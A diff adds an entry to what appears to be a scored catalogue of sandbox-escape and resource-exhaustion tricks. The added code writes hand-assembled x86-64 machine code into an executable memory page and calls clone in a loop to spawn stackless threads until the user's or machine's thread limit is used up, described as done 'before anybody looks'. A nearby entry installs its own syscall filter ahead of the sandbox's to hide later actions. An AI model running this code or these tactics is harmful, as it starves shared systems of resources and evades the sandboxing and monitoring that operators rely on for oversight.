@@ -136,6 +136,28 @@ call(206, 1, ctypes.addressof(queue))
         "databases of the machine that cannot start",
     ),
     sharing(
+        "threads-below-python",
+        "It starts threads without stacks by the number of the call (clone), thousands of them before"
+        " anybody looks.",
+        """
+import mmap
+# mov eax, 56 (clone); syscall; test rax, rax; jz on; ret; on: mov eax, 34 (pause); syscall; jmp on
+code = bytes.fromhex("b838000000 0f05 4885c0 7401 c3 b822000000 0f05 ebf7")
+private = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS
+page = mmap.mmap(-1, 4096, flags=private, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
+page.write(code)
+stack = mmap.mmap(-1, 1 << 16, flags=private)
+start = ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_long] * 4)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
+top = ctypes.addressof(ctypes.c_char.from_buffer(stack)) + (1 << 15)
+for number in range(1000):
+    if start(0x10F00, top, 0, 0) < 0: break
+else: @BOAST@
+""",
+        "all threads that a user or the machine can have",
+        points=(0.0, 2.0, 2.0, 1.0),
+        incident="task-limit",
+    ),
+    sharing(
         "filter-of-its-own",
         "It adds a filter of calls whose errors come before the sandbox's own (prctl), and then tries"
         " what nobody is to hear of.",
